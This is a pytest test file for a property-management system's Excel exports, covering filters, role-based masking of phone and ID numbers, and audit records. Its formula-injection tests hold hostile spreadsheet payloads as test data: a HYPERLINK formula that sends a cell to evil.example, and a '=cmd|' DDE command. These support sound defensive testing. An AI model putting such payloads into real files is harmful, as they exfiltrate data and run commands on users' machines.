"""Excel out: the request list as filtered, rooms and residents; masking; the export record."""

import io

import openpyxl
import pytest

from core.models import ExportRecord
from desk.choices import Kind

pytestmark = pytest.mark.django_db


def sheet(response):
    content = b"".join(response.streaming_content)
    ws = openpyxl.load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return [list(r) for r in ws.iter_rows(values_only=True)]


def test_request_export_matches_the_list_filter_and_is_recorded(world, client):
    complaint = world.register(caller_phone="13811112222", caller_name="张三")
    world.register(kind=Kind.REPAIR, title="门锁坏了")
    world.register_other()
    client.force_login(world.cs)
    response = client.get("/import/export/requests.xlsx?kind=complaint")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = sheet(response)
    assert rows[0][:3] == ["单号", "项目", "类型"]
    assert [r[0] for r in rows[1:]] == [complaint.number]
    assert rows[1][2] == "投诉" and rows[1][6] == "3-2-1502" and rows[1][7] == "张三"
    assert rows[1][8] == "13811112222"  # CS staff see phone numbers in full
    record = ExportRecord.objects.get()
    assert (record.user, record.what, record.rows) == (world.cs, "工单列表", 1)
    assert record.filters == {"kind": "complaint"}
    # without a filter: everything the user may see, not the other project's
    assert len(sheet(client.get("/import/export/requests.xlsx"))) == 3


def test_request_export_masks_phones_for_roles_without_full_view(world, client):
    world.register(caller_phone="13811112222")
    client.force_login(world.finance)
    rows = sheet(client.get("/import/export/requests.xlsx"))
    assert rows[1][8] == "138****2222"


def test_request_export_refused_to_technicians_and_residents(world, client):
    for user in (world.tech, world.guard, world.resident_user):
        client.force_login(user)
        assert client.get("/import/export/requests.xlsx").status_code == 403
    assert not ExportRecord.objects.exists()


def test_bad_filter_exports_nothing(world, client):
    client.force_login(world.cs)
    response = client.get("/import/export/requests.xlsx?project=999999")
    assert response.status_code == 400 and "筛选条件无效，未导出。" in response.content.decode()
    assert not ExportRecord.objects.exists()


def test_export_button_on_the_list_carries_the_filter(world, client):
    client.force_login(world.cs)
    from django.urls import reverse

    page = client.get(reverse("desk:list") + "?kind=complaint").content.decode()
    assert "/import/export/requests.xlsx?kind=complaint" in page and "导出Excel" in page
    client.force_login(world.tech)
    assert "导出Excel" not in client.get(reverse("desk:list")).content.decode()


def test_residents_export_masks_ids_always_and_phones_by_role(world, client):
    r = world.resident
    if hasattr(r, "id_number"):
        r.id_number = "330106199001011237"
        r.save()
    client.force_login(world.supervisor)
    rows = sheet(client.get(f"/import/export/residents.xlsx?project={world.project.pk}"))
    header = rows[0]
    by_name = {row[header.index("姓名")]: row for row in rows[1:]}
    assert set(by_name) == {"张三", "李四"}  # not the other project's 赵六
    zhang = by_name["张三"]
    assert zhang[header.index("房屋编号")] == "3-2-1502"
    assert zhang[header.index("手机")] == "13812345678"  # supervisors see phones in full
    assert zhang[header.index("关系")] == "业主"
    if "证件号码" in header:
        assert zhang[header.index("证件号码")] == "3301**********1237"
    record = ExportRecord.objects.get()
    assert record.what == "业户名单" and record.rows == 2 and record.filters["project"] == world.project.pk


def test_rooms_export_filters_and_masks(world, client, monkeypatch):
    from importer import exports

    monkeypatch.setattr(exports, "may_reveal", lambda user, kind: False)
    client.force_login(world.pm)
    rows = sheet(client.get(f"/import/export/rooms.xlsx?project={world.project.pk}&state=occupied"))
    header = rows[0]
    assert header[:3] == ["楼栋", "单元", "房号"]
    codes = {row[header.index("房屋编号")]: row for row in rows[1:]}
    assert set(codes) == {"3-2-1502", "3-2-1501"}
    assert codes["3-2-1502"][header.index("业主")] == "张三"
    assert codes["3-2-1502"][header.index("业主电话")] == "138****5678"
    assert codes["3-2-1502"][header.index("产权面积")] == 100
    assert ExportRecord.objects.get().what == "房屋及业主"
    assert len(sheet(client.get(f"/import/export/rooms.xlsx?project={world.project.pk}&state=vacant"))) == 1


def test_estate_export_of_another_project_or_by_cs_is_refused(world, client):
    client.force_login(world.supervisor)
    response = client.get(f"/import/export/rooms.xlsx?project={world.other_project.pk}")
    assert response.status_code == 302
    client.force_login(world.cs)
    assert client.get(f"/import/export/rooms.xlsx?project={world.project.pk}").status_code == 403
    assert not ExportRecord.objects.exists()


def test_export_writes_every_row_once_newest_first(world, client):
    """Rows are read in keyset chunks (core.paging.keyset_rows; chunk boundaries and ties are
    covered in core/tests/test_paging.py): here, the workbook holds each request once."""
    made = [world.register().number for _ in range(5)]
    client.force_login(world.cs)
    rows = sheet(client.get("/import/export/requests.xlsx"))
    assert [row[0] for row in rows[1:]] == made[::-1]
    assert ExportRecord.objects.get().rows == 5


def test_rooms_export_takes_the_room_lists_query_string(world, client):
    """The estate room list's filter (building, state, use, tag) without a project: the building's."""
    client.force_login(world.supervisor)
    building = world.room.building
    rows = sheet(client.get(f"/import/export/rooms.xlsx?building={building.pk}&state=occupied&use=residential"))
    assert {r[rows[0].index("房屋编号")] for r in rows[1:]} == {"3-2-1502", "3-2-1501"}
    # a user of two projects must choose one
    world.supervisor.projects.add(world.other_project)
    world.supervisor._project_ids = None
    response = client.get("/import/export/rooms.xlsx?state=occupied", follow=True)
    assert "请选择项目。" in response.content.decode()


# ------------------------------------------------------------------ formula injection (issue 10)


def cells(response):
    """Every data cell of the first sheet as openpyxl holds it (value and data_type)."""
    content = b"".join(response.streaming_content)
    ws = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(r) for r in ws.iter_rows()]


def assert_no_formula(rows):
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]


def test_request_export_writes_formula_looking_text_as_quoted_text(world, client):
    world.resident.name = "@SUM(1)"
    world.resident.save()
    link = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
    world.register(title=link, location="+1", description="\t=1+2")
    world.register(title="=cmd|' /C calc'!A0", caller_name="-2+3", resident_id=None, room_id=None, location="+1")
    world.register(title="#N/A")
    client.force_login(world.finance)
    rows = cells(client.get("/import/export/requests.xlsx"))
    assert_no_formula(rows)
    header = [c.value for c in rows[0]]
    title, contact = header.index("标题"), header.index("联系人")
    by_title = {r[title].value: r for r in rows[1:]}
    assert set(by_title) == {"'" + link, "'=cmd|' /C calc'!A0", "'#N/A"}
    assert by_title["'" + link][contact].value == "'@SUM(1)"
    assert by_title["'=cmd|' /C calc'!A0"][contact].value == "'-2+3"
    for row in rows[1:]:
        assert row[title].data_type == "s" and row[contact].data_type == "s"
    assert rows[1][header.index("登记时间")].data_type == "d"  # dates stay dates


def test_rooms_and_residents_exports_quote_formula_text_and_keep_numbers(world, client):
    world.room.layout = "\t=1+2"
    world.room.save()
    world.neighbour.name = "=1+1"
    world.neighbour.save()
    client.force_login(world.supervisor)
    rows = cells(client.get(f"/import/export/rooms.xlsx?project={world.project.pk}"))
    assert_no_formula(rows)
    header = [c.value for c in rows[0]]
    room = next(r for r in rows[1:] if r[header.index("房屋编号")].value == "3-2-1502")
    layout = room[header.index("户型")]
    assert (layout.value, layout.data_type) == ("'\t=1+2", "s")
    area = room[header.index("产权面积")]
    assert (area.value, area.data_type) == (100, "n")  # a number the program writes stays a number
    neighbour = next(r for r in rows[1:] if r[header.index("房屋编号")].value == "3-2-1501")
    assert neighbour[header.index("业主")].value == "'=1+1"
    rows = cells(client.get(f"/import/export/residents.xlsx?project={world.project.pk}"))
    assert_no_formula(rows)
    header = [c.value for c in rows[0]]
    names = {r[header.index("姓名")].value: r[header.index("姓名")].data_type for r in rows[1:]}
    assert names == {"张三": "s", "'=1+1": "s"}


def test_text_with_control_characters_is_exported_not_refused(world, client):
    world.register(title="漏水\x0b\x01严重")  # pasted from another program
    client.force_login(world.cs)
    response = client.get("/import/export/requests.xlsx")
    assert response.status_code == 200
    header, row = sheet(response)
    assert row[header.index("标题")] == "漏水严重"


def test_an_exported_quote_is_taken_off_when_the_file_is_imported_again():
    from importer.reader import cell_text

    assert cell_text("'=1+1") == "=1+1"
    assert cell_text("'-1-101") == "-1-101"
    assert cell_text("'#N/A") == "#N/A"
    assert cell_text("'普通文字") == "'普通文字"  # a quote before ordinary text is the user's
